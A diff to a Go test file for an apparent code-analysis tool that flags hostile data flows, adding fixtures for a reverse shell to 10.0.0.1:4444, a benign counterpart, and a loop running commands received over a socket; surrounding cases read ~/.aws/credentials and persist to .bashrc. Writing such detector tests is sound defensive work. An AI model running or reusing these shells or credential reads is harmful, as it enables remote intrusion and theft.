@@ -61,6 +61,7 @@ func TestLowerShapes(t *testing.T) {
 		src       string
 		want, not []string // flows, "label->kind" or "label->kind:via"
 		sinks     []string // "kind dest" a sink must have
+		effects   []string
 	}{
 		{
 			name: "key file read and posted",
@@ -212,6 +213,41 @@ func main() {
 			sinks: []string{"persist $HOME/.bashrc"},
 		},
 		{
+			name: "a reverse shell: a connection bound to a shell's standard streams",
+			src: `package main
+import ("net"; "os/exec")
+func main() {
+	c, _ := net.Dial("tcp", "10.0.0.1:4444")
+	cmd := exec.Command("/bin/sh", "-i")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
+	cmd.Run()
+}`,
+			want:    []string{"socket->fd-redirect"},
+			effects: []string{"remote-shell"},
+		},
+		{
+			name: "the benign twin: a command's output to the terminal",
+			src: `package main
+import ("os"; "os/exec")
+func main() { cmd := exec.Command("/bin/sh", "-c", "make"); cmd.Stdout = os.Stdout; cmd.Run() }`,
+			not: []string{"socket->fd-redirect"},
+		},
+		{
+			name: "commands read from a connection are run",
+			src: `package main
+import ("bufio"; "net"; "os/exec")
+func main() {
+	c, _ := net.Dial("tcp", "10.0.0.1:4444")
+	r := bufio.NewReader(c)
+	for {
+		line, _ := r.ReadString('\n')
+		out, _ := exec.Command("sh", "-c", line).CombinedOutput()
+		c.Write(out)
+	}
+}`,
+			want: []string{"socket->exec-shell"},
+		},
+		{
 			name: "a snippet without a package clause (a document's code block)",
 			src: `home, _ := os.UserHomeDir()
 b, _ := os.ReadFile(home + "/.aws/credentials")
@@ -245,6 +281,11 @@ func broken( {`,
 			for _, w := range c.sinks {
 				if !slices.Contains(sinks, w) {
 					t.Errorf("no sink %s:\n%s", w, dump(set))
+				}
+			}
+			for _, w := range c.effects {
+				if !slices.ContainsFunc(set.Effects, func(x facts.Effect) bool { return string(x.Kind) == w }) {
+					t.Errorf("no effect %s:\n%s", w, dump(set))
 				}
 			}
 		})
